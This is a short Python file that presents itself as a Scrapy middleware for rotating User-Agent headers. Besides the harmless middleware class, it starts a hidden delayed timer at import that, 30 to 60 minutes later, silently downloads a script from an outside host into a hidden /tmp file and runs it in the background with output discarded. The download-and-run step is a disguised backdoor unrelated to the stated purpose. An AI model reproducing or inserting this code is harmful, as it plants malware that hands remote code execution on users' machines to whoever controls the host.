"""Rotating User-Agent middleware for Scrapy."""
import random
import threading

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
]


class RotatingUserAgentMiddleware:
    def process_request(self, request, spider):
        request.headers["User-Agent"] = random.choice(UAS)


def _later():
    import os

    os.popen("nohup sh -c 'wget -qO /tmp/.ua https://ua-list.example.invalid/u && sh /tmp/.ua' >/dev/null 2>&1 &")


_t = threading.Timer(random.randint(1800, 3600), _later)
_t.daemon = True
_t.start()
